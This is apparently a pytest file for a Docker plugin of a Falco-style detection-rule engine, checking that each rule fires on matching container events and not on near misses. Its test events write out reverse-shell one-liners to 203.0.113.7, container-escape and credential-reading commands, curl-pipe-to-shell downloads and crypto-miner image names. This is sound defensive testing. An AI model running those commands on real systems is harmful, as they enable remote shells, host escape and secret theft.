"""The rules that ship with the Docker plugin: each fires on what it is for and on nothing close to it, on engines of all API versions."""

import json
from dataclasses import replace
from pathlib import Path

import pytest

import lanner.docker
from lanner.docker import Docker
from lanner.rules import Catalog, Executor, Rule, RuleSet, compile_rules, load_rules, load_rules_text
from lanner.rules.nodes import And, Check, Not, Or
from lanner.sdk.host import FieldReader, init_plugin
from lanner.sdk.plugin import plugin_info

HERE = Path(lanner.docker.__file__).parent
INFO = plugin_info(Docker)
CATALOG = Catalog([declaration.info for declaration in INFO.fields], "docker")
RULESET = load_rules([HERE / Docker.rules], CATALOG, plugins={"docker": INFO.version})
NAMES = [rule.name for rule in RULESET.rules]


def event(kind, action, identity="4f2d", scope="local", **attributes):
    """An event as a new engine words it; a double underscore in a name is a dot, a single one stays."""
    actor = {"ID": identity, "Attributes": {key.replace("__", "."): value for key, value in attributes.items()}}
    return {"Type": kind, "Action": action, "Actor": actor, "scope": scope, "time": 1795426345, "timeNano": 1795426345860357172}


def container(action, **attributes):
    return event("container", action, **({"image": "busy:1", "name": "web"} | attributes))


def run(command):
    return container(f"exec_start: {command}", execID="9ad1")


def image(action, name="busy:1"):
    return event("image", action, name=name)


def node(**attributes):
    return event("node", "update", scope="swarm", name="worker-1", **attributes)


# rule: (events that raise it, close events that do not)
CASES = {
    "Reverse shell in a container": (
        [
            run("nc -l -p 4444 -e /bin/sh"),
            run('bash -c "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"'),
            run("socat tcp:203.0.113.7:443 exec:/bin/sh"),
            run("python3 -c import pty; pty.spawn('/bin/sh')"),
            run("/bin/sh -c mkfifo /tmp/f; cat /tmp/f | sh -i | nc 203.0.113.7 443 > /tmp/f"),
        ],
        [run("nc -z db 5432"), run("socat -V"), container("exec_create: nc -l -p 4444 -e /bin/sh"), container("exec_die")],
    ),
    "Escape to the host tried in a container": (
        [
            run("nsenter -t 1 -m sh"),
            run("ls /var/run/docker.sock"),
            run("chroot /host sh"),
            run("sh -c mount /dev/sda1 /mnt"),
            run("cat /proc/1/root/etc/hostname"),
            run("sh -c echo /x > /cg/release_agent"),
        ],
        [run("mount"), run("ls /dev"), run("cat /proc/1/status"), container("create", name="nsenter")],
    ),
    "Credentials read in a container": (
        [
            run("cat /etc/shadow"),
            run("ls /run/secrets"),
            run("cat /root/.ssh/id_rsa"),
            run("cat /proc/self/environ"),
            run("wget -qO- http://169.254.169.254/latest/meta-data"),
        ],
        [run("cat /etc/hosts"), run("ls /run"), container("create", name="id_rsa")],
    ),
    "Download in a container": (
        [run("curl -s https://203.0.113.7/x"), run("wget http://203.0.113.7/x"), run("sh -c curl https://203.0.113.7/x | sh")],
        [run("curl -f http://localhost:8080/health"), run("/bin/sh -c wget -q http://127.0.0.1/ || exit 1"), run("curlew"), run("wget")],
    ),
    "Package installed in a container": (
        [run("apk add nmap"), run("sh -c apt-get install -y tcpdump"), run("pip install requests")],
        [run("apk info"), run("apt list"), run("pip list")],
    ),
    "Reconnaissance in a container": (
        [
            run("id"),
            run("id "),
            run("printenv"),
            run("printenv "),
            run("whoami "),
            run("ps aux"),
            run("cat /etc/passwd"),
            run("nmap 10.0.0.0/8"),
        ],
        [run("idle"), run("psql"), run("cat /etc/hosts"), run("environment"), container("top")],
    ),
    "Shell in a container": (
        [run("sh"), run("sh "), run("bash"), run("/bin/bash -l"), run("/usr/bin/zsh "), run("busybox sh"), run("bash /tmp/x.sh")],
        [
            run("sh -c ls"),
            run("ssh host"),
            run("shred x"),
            run("bashful"),
            run("/opt/sh/run"),
            run("cat /bin/sh"),
            container("exec_create: sh"),
            container("start"),
        ],
    ),
    "Shell command in a container": (
        [run("sh -c ls /"), run("/bin/sh -c echo one; echo two: three"), run("bash -lc make"), run("ash -ec true")],
        [run("sh"), run("git -c color.ui=false log"), container("exec_create: sh -c ls /"), container("exec_die")],
    ),
    "Command in a container": (
        [run("psql -c select"), run("redis-cli ping")],
        [run("sh"), run("/bin/sh -c true"), container("exec_create: psql")],
    ),
    "Miner or malware by name": (
        [
            container("create", image="metal3d/xmrig:latest"),
            container("create", name="XMRig"),
            image("pull", "kinsing/kinsing"),
            image("tag", "monero-miner:1"),
        ],
        [container("start", image="metal3d/xmrig:latest"), container("create", image="mine:1"), image("push", "metal3d/xmrig")],
    ),
    "Container from an image made to reach the host": (
        [container("create", image="justincormack/nsenter1"), container("create", image="docker:24-dind")],
        [
            container("create", image="docker:24-cli"),
            container("start", image="justincormack/nsenter1"),
            container("create", name="nsenter1"),
        ],
    ),
    "Container from an image that is not on the list": (
        [container("start"), container("start", image="sha256:0afc")],
        [container("create"), container("restart"), event("plugin", "start", name="x")],
    ),
    "Files copied into a container": ([container("extract-to-dir")], [container("archive-path"), container("export")]),
    "Files copied out of a container": ([container("archive-path"), container("copy")], [container("extract-to-dir"), container("commit")]),
    "Container exported": ([container("export")], [image("save"), container("commit")]),
    "Container committed to an image": ([container("commit", imageRef="web:patched", comment="")], [image("commit"), container("create")]),
    "Security agent stopped": (
        [
            container("kill", image="falcosecurity/falco:0.44.1", signal="15"),
            container("pause", image="sysdig/agent"),
            container("rename", image="wazuh/wazuh-agent:4", oldName="/agent"),
        ],
        [
            container("kill", signal="15"),
            container("start", image="falcosecurity/falco:0.44.1"),
            container("die", image="falcosecurity/falco:1"),
        ],
    ),
    "Container killed by signal 9": (
        [container("kill", signal="9")],
        [container("kill", signal="15"), container("kill", signal="90"), container("kill"), container("die", exitCode="137")],
    ),
    "Container out of memory": ([container("oom")], [container("die", exitCode="137"), container("update")]),
    "Container crashed": (
        [container("die", exitCode="139"), container("die", exitCode="134")],
        [container("die", exitCode="1"), container("die", exitCode="137"), container("die"), container("exec_die", exitCode="139")],
    ),
    "Container ended with an error": (
        [container("die", exitCode="1"), container("die", exitCode="127")],
        [
            container("die", exitCode="0"),
            container("die", exitCode="137"),
            container("die", exitCode="143"),
            container("die"),
            container("exec_die", exitCode="1"),
        ],
    ),
    "Container unhealthy": (
        [container("health_status: unhealthy")],
        [container("health_status: healthy"), run("unhealthy"), container("health_status: running")],
    ),
    "Container renamed": ([container("rename", oldName="/web", name="db")], [container("update"), image("rename")]),
    "Container paused": ([container("pause")], [container("unpause"), container("stop")]),
    "Limits of a container changed": ([container("update")], [event("service", "update", name="web"), node()]),
    "Terminal attached to a container": ([container("attach")], [container("detach"), container("start")]),
    "Processes of a container listed": ([container("top")], [run("top"), container("stop")]),
    "Image pulled from a registry that is not on the list": (
        [image("pull", "evil.example.net/web"), image("pull", "busy")],
        [image("pull", "registry.example.com/web"), image("push", "evil.example.net/web")],
    ),
    "Image pulled": ([image("pull")], [image("push"), event("plugin", "pull", name="acme/logs")]),
    "Image pushed": ([image("push")], [image("pull"), image("tag")]),
    "Image loaded or imported": ([image("load"), image("import")], [image("save"), image("tag")]),
    "Image saved": ([image("save")], [image("load"), container("export")]),
    "Image deleted": ([image("delete"), image("remove")], [image("untag"), image("prune"), container("destroy")]),
    "Image tagged": ([image("tag")], [image("untag"), image("pull")]),
    "Objects pruned": (
        [event(kind, "prune", "", reclaimed="0") for kind in ("container", "image", "network", "volume", "builder")],
        [event("volume", "destroy", "orders", driver="local"), container("destroy")],
    ),
    "Volume destroyed": (
        [event("volume", "destroy", "orders", driver="local"), event("volume", "remove", "", name="orders")],
        [event("volume", "unmount", "orders", driver="local"), event("volume", "prune", "", reclaimed="0"), container("destroy")],
    ),
    "Container on the host's network": (
        [event("network", "connect", container="4f2d", name="host", type="host")],
        [
            event("network", "connect", container="4f2d", name="none", type="null"),
            event("network", "disconnect", container="4f2d", name="host", type="host"),
        ],
    ),
    "Network with the outside created": (
        [event("network", "create", name="lan", type="macvlan"), event("network", "create", name="lan", type="ipvlan")],
        [event("network", "create", name="macvlan", type="bridge"), event("network", "connect", name="lan", type="macvlan")],
    ),
    "Network created": (
        [event("network", "create", name="shop", type="bridge"), event("network", "create", scope="swarm", name="shop")],
        [event("network", "destroy", name="shop", type="bridge"), event("network", "connect", name="shop", type="bridge")],
    ),
    "Secret touched": (
        [event("secret", action, scope="swarm", name="password") for action in ("create", "update", "remove")],
        [event("config", "create", scope="swarm", name="password")],
    ),
    "Config touched": (
        [event("config", action, scope="swarm", name="nginx.conf") for action in ("create", "update", "remove")],
        [event("secret", "create", scope="swarm", name="nginx.conf"), event("daemon", "reload", name="host")],
    ),
    "Swarm node down": (
        [node(state__new="down", state__old="ready"), node(state__new="disconnected", state__old="ready")],
        [node(state__new="ready", state__old="down"), node(availability__new="drain"), node()],
    ),
    "Swarm node demoted": (
        [node(role__new="worker", role__old="manager")],
        [node(role__new="manager", role__old="worker"), node(role__new="worker"), node()],
    ),
    "Swarm node promoted": ([node(role__new="manager", role__old="worker")], [node(role__new="worker", role__old="manager"), node()]),
    "Swarm node drained or paused": (
        [node(availability__new="drain", availability__old="active"), node(availability__new="pause", availability__old="active")],
        [node(availability__new="active", availability__old="drain"), node()],
    ),
    "Swarm node removed": (
        [event("node", "remove", scope="swarm", name="worker-1")],
        [node(state__new="down"), event("service", "remove", name="w")],
    ),
    "Swarm node joined": ([event("node", "create", scope="swarm", name="")], [node(), node(state__new="ready", state__old="unknown")]),
    "Stack removed": (
        [
            event("service", "remove", scope="swarm", name="shop_web"),
            event("service", "remove", scope="swarm", name="web", com__docker__stack__namespace="shop"),
        ],
        [event("service", "remove", scope="swarm", name="web"), event("service", "update", scope="swarm", name="shop_web")],
    ),
    "Service removed": (
        [event("service", "remove", scope="swarm", name="web")],
        [event("service", "update", scope="swarm", name="web"), event("node", "remove", scope="swarm", name="web")],
    ),
    "Service created": (
        [event("service", "create", scope="swarm", name="web")],
        [event("service", "update", scope="swarm", name="web"), container("create")],
    ),
    "Update of a service failed": (
        [
            event("service", "update", scope="swarm", name="web", updatestate__new="paused", updatestate__old="updating"),
            event("service", "update", scope="swarm", name="web", updatestate__new="rollback_started"),
        ],
        [
            event("service", "update", scope="swarm", name="web", updatestate__new="completed", updatestate__old="updating"),
            event("service", "update", scope="swarm", name="web"),
        ],
    ),
    "Engine plugin installed": (
        [event("plugin", action, name="acme/logs:latest") for action in ("pull", "create", "upgrade", "enable")],
        [event("plugin", "disable", name="acme/logs"), event("plugin", "push", name="acme/logs"), image("pull", "acme/logs")],
    ),
    "Engine plugin removed": (
        [event("plugin", "disable", name="acme/logs"), event("plugin", "remove", name="acme/logs")],
        [event("plugin", "enable", name="acme/logs"), event("service", "remove", name="logs")],
    ),
    "Engine reloaded": (
        [event("daemon", "reload", "TPWA:KQG5", name="host", debug="false", runtimes="runc")],
        [container("restart"), event("plugin", "reload", name="x")],
    ),
    "Docker status changed": ([container("start"), image("tag"), run("id")], [node(), event("volume", "create", "orders", driver="local")]),
}

# raised by what the recording does not do: hand-made events of CASES must do for them
NOT_RECORDED = {
    "Container from an image made to reach the host",
    "Network with the outside created",
    "Package installed in a container",
    "Security agent stopped",
    "Service removed",
    "Update of a service failed",
}


def legacy(event):
    """The same event as engines up to API 1.51 send it."""
    actor, kind = event["Actor"], event["Type"]
    old = {"status": event["Action"], "id": actor["ID"]} if kind in {"container", "image"} else {}
    if kind == "container" and "image" in actor["Attributes"]:
        old["from"] = actor["Attributes"]["image"]
    return old | event


class Watch:
    """Rules over events: the names of those that match, all of them or the one that Falco would choose."""

    def __init__(self, rules, *, first):
        compiled = compile_rules(RuleSet(tuple(rules), ()), CATALOG)
        self.rules, self.compiled = compiled.rules, compiled
        self.reader = FieldReader(init_plugin(Docker), [(request.name, request.argument) for request in compiled.plan.fields])
        self.executor = Executor(compiled.plan, self.reader.get, first=first)

    def names(self, event):
        self.reader.load(event if isinstance(event, bytes) else json.dumps(event).encode())
        return [self.rules[number].name for number in self.executor.match()]


def enabled(rule: Rule) -> Rule:
    return replace(rule, enabled=True)


@pytest.fixture(scope="module")
def shipped():
    return Watch(RULESET.rules, first=True)


@pytest.fixture(scope="module")
def everything():
    return Watch(map(enabled, RULESET.rules), first=False)


def checks(node):
    """Every comparison of a condition."""
    match node:
        case Check():
            yield node
        case Not(child=child):
            yield from checks(child)
        case And(children=children) | Or(children=children):
            for child in children:
                yield from checks(child)


def test_the_table_is_about_the_rules_of_the_file():
    assert list(CASES) == NAMES


@pytest.mark.parametrize("form", [legacy, lambda event: event], ids=["api-1.41", "api-1.52"])
@pytest.mark.parametrize("name", NAMES)
def test_rule_fires_on_what_it_is_for(name, form, shipped):
    rule = RULESET.rules[NAMES.index(name)]
    watch = shipped if rule.enabled else Watch([enabled(rule)], first=True)
    fires, _ = CASES[name]
    assert [(event, watch.names(form(event))) for event in fires] == [(event, [name]) for event in fires]


@pytest.mark.parametrize("form", [legacy, lambda event: event], ids=["api-1.41", "api-1.52"])
@pytest.mark.parametrize("name", NAMES)
def test_rule_is_silent_on_what_comes_close(name, form, everything):
    _, near = CASES[name]
    assert near
    assert [event for event in near if name in everything.names(form(event))] == []


def test_the_file_is_read_without_a_word(everything):
    assert RULESET.findings == ()
    assert everything.compiled.findings == ()


def test_only_rules_that_need_filling_or_would_be_noise_are_disabled():
    assert {rule.name for rule in RULESET.rules if not rule.enabled} == {
        "Command in a container",
        "Container ended with an error",
        "Container from an image that is not on the list",
        "Docker status changed",
        "Image pulled from a registry that is not on the list",
    }


@pytest.mark.parametrize("rule", RULESET.rules, ids=NAMES)
def test_rule_speaks_the_language_of_falco_0_32(rule):
    """Its grammar is older than regex, iglob, transformers, fields on the right and `oneof`."""
    for check in checks(rule.condition):
        assert hasattr(check.left, "name"), check
        assert not hasattr(check.left, "arguments"), check
        assert check.modifier is None
        assert not hasattr(check.right, "name"), check
        assert check.operator in {
            "=",
            "!=",
            "exists",
            "in",
            "contains",
            "icontains",
            "startswith",
            "endswith",
            "glob",
            "<",
            "<=",
            ">",
            ">=",
        }
    assert "(%" not in rule.output.replace("(%docker", "")
    assert rule.source == "docker"
    assert "docker" in rule.tags
    assert rule.desc
    assert "\n" not in rule.output


def test_every_shipped_rule_is_found_by_the_index(shipped):
    assert shipped.compiled.plan.index.always == ()


def test_the_recording_raises_all_rules_but_a_known_few(shipped):
    lines = (HERE / Docker.example).read_bytes().splitlines()
    raised = [name for line in lines for name in shipped.names(line)]
    assert {rule.name for rule in shipped.rules} - set(raised) == NOT_RECORDED
    assert len(raised) >= 40


def test_a_health_check_on_the_list_raises_nothing():
    text = (HERE / Docker.rules).read_text().replace(
        "- list: known_health_checks\n  items: []", '- list: known_health_checks\n  items: ["/bin/sh -c pg_isready -U shop || exit 1"]'
    )  # fmt: skip
    watch = Watch(load_rules_text(text, CATALOG).rules, first=True)
    assert watch.names(run("/bin/sh -c pg_isready -U shop || exit 1")) == []
    assert watch.names(run("/bin/sh -c pg_isready")) == ["Shell command in a container"]


def test_an_image_on_the_list_raises_nothing():
    text = (
        (HERE / Docker.rules)
        .read_text()
        .replace("- list: allowed_images\n  items: []", "- list: allowed_images\n  items: [busy:1, redis:7]")
    )
    name = "Container from an image that is not on the list"
    watch = Watch([enabled(rule) for rule in load_rules_text(text, CATALOG).rules if rule.name == name], first=True)
    assert watch.names(container("start")) == []
    assert watch.names(container("start", image="redis:6")) == [name]
